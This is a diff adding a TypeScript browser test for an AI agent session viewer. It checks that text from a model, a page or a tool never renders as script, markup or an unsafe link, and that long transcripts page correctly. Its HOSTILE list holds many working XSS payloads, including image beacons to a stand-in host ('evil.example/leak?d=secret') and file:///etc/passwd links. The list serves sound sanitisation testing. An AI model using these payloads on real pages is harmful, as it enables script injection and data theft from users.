@@ -1,0 +1,132 @@
+import { expect } from 'vitest';
+import type { EventBody } from '../../src/protocol/session/event.ts';
+import { sessionPaths } from '../../src/store/index.ts';
+import { opened, planned, received, record, started } from '../client/rig.ts';
+import { ask } from '../http/serving.ts';
+import { eventually, type PageDesk, useBrowser } from './page-desk.ts';
+
+const webTest = useBrowser();
+
+/** What a model, a page it has read or a program's output may say, to run or load something. */
+const HOSTILE = [
+  '<script>window.pwn=1</script>',
+  '<img src=x onerror="window.pwn=1">',
+  '[a](javascript:window.pwn=1)',
+  '[a](JaVaScRiPt:alert(1))',
+  '[a](java\nscript:alert(1))',
+  '[a](&#106;avascript:alert(1))',
+  '[a](\u0001javascript:alert(1))',
+  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[a](vbscript:x)',
+  '![x](https://evil.example/leak?d=secret)',
+  '![x](//evil.example/a)',
+  '<https://evil.example>',
+  '<javascript:alert(1)>',
+  '<iframe src="https://evil.example">',
+  '<style>@import url(https://evil.example/x.css)</style>',
+  '<svg onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<form action=https://evil.example><button>go</button></form>',
+  '`<script>alert(1)</script>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>',
+  '"><base href="https://evil.example/">',
+  '<link rel=prefetch href="https://evil.example/p">',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '- [x] done\n- [ ] open\n\n**bold** *em* ~~del~~ https://example.com',
+  '[a](/logout)',
+  '[a](//evil.example)',
+  '[a](#/new)',
+  '[a](\\\\evil.example\\x)',
+  '[a](file:///etc/passwd)',
+  '[a](blob:http://127.0.0.1/x)',
+  '[a](http:javascript:alert(1))',
+  '[a](https://evil.example "onmouseover=alert(1)")',
+  '[![x](https://evil.example/i.png)](javascript:alert(1))',
+  '[x][y]\n\n[y]: data:text/html,x',
+  '![x][y]\n\n[y]: https://evil.example/pixel',
+  '<video poster=https://evil.example/p.png><source src=https://evil.example/v></video>',
+  '<object data=https://evil.example></object><embed src=https://evil.example>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<input autofocus onfocus=alert(1)>',
+  '<body onload=alert(1)><template><script>alert(1)</script></template>',
+  '<!--<img src="--><img src=x onerror=alert(1)>">',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '# <img src=x onerror=alert(1)>\n> <script>alert(1)</script>\n\n1. <svg/onload=alert(1)>',
+  '__proto__ constructor {{7*7}} <%= x %>',
+  '\u202egnp.exe\u202c \ufeff \u0007',
+  `${'['.repeat(2000)}x${'](y)'.repeat(200)}`,
+];
+
+const answered = (text: string, calls: Array<{ id: string; name: string; args: string }> = []): EventBody => ({
+  ...{ type: 'model.answered', text, calls, usage: { tokens: 1, cost: null }, model: 'm', ms: 1, carried: [], seen: 1 },
+});
+
+/** A session with these events; the message that creates it stays in the inbox. */
+async function openSession({ on, url, token }: PageDesk, events: EventBody[]): Promise<void> {
+  await ask(url, token, 'POST', '/api/sessions/demo/messages', { body: { text: 'x' } });
+  await record(sessionPaths(on.session('demo')), events);
+}
+
+webTest(
+  'no text of a model, a person or a program becomes code, markup or a request, wherever the page shows it',
+  [],
+  async (desk) => {
+    const events: EventBody[] = [
+      opened,
+      received('1.md', HOSTILE.join('\n')),
+      started('1.md'),
+      ...planned('p', HOSTILE[0]!),
+    ];
+    for (const [place, text] of HOSTILE.entries()) {
+      const step = `s_${place}`;
+      events.push(
+        { type: 'step.added', step: { id: step, description: text, status: 'pending' }, by: 'model' },
+        { type: 'step.failed', step, error: text, by: 'model' },
+        answered(text, [{ id: 'c', name: 'shell', args: text }]),
+      );
+      const call = `${events.length}.0`;
+      events.push(
+        { type: 'tool.started', call, name: text, args: text, replay: 'never' },
+        { type: 'tool.finished', call, ok: true, output: { text }, ms: 1 },
+      );
+    }
+    await openSession(desk, events);
+    const page = await desk.open({ hash: '#/s/demo' });
+    await page.getByText('gnp.exe').last().waitFor();
+    await page.evaluate('for (const one of document.querySelectorAll("details")) one.open = true');
+    await page.getByText('Reopen').last().waitFor();
+    const bad =
+      'script:not([src="/app.js"]), iframe, img, style, svg, link:not([href="/app.css"]):not([href="/icon.svg"]), base, object, embed, video, math, template, meta[http-equiv], [onerror], [onload], [onfocus], [ontoggle], form[action]';
+    expect(await page.locator(bad).count()).toBe(0);
+    expect(await page.evaluate('window.pwn ?? null')).toBeNull();
+    const links = await page
+      .locator('.transcript a')
+      .evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''));
+    expect(links.length).toBeGreaterThan(5);
+    expect(links.filter((href) => !/^(?:https?:\/\/|mailto:)[a-z]/.test(href))).toEqual([]);
+    const rels = await page.locator('.transcript a:not([rel="noopener noreferrer nofollow"])').count();
+    expect(rels).toBe(0);
+    expect(await page.locator('.transcript strong', { hasText: 'bold' }).count()).toBe(1);
+  },
+);
+
+webTest('of 10,000 events the last entries are shown first, and earlier ones when asked for', [], async (desk) => {
+  const events: EventBody[] = [opened, received('1.md'), started('1.md'), ...planned('p', 'Count')];
+  while (events.length < 10_000) events.push(answered(`Answer **${events.length}**`));
+  await openSession(desk, events);
+  const began = performance.now();
+  const page = await desk.open({ hash: '#/s/demo' });
+  const log = page.getByRole('log');
+  await log.getByText('Answer 9999').waitFor();
+  console.log(`10,000 events: on screen after ${Math.round(performance.now() - began)} ms, with the start of the page`);
+  await eventually(() => log.locator('article').count()).toBe(200);
+  expect(await log.evaluate((it) => it.scrollHeight - it.scrollTop - it.clientHeight)).toBeLessThan(80);
+  await log.getByRole('button', { name: /^Show earlier/ }).press('Enter');
+  await eventually(() => log.locator('article').count()).toBe(400);
+  await record(sessionPaths(desk.on.session('demo')), [answered('The **newest** answer')]);
+  await log.getByText('The newest answer').waitFor();
+});
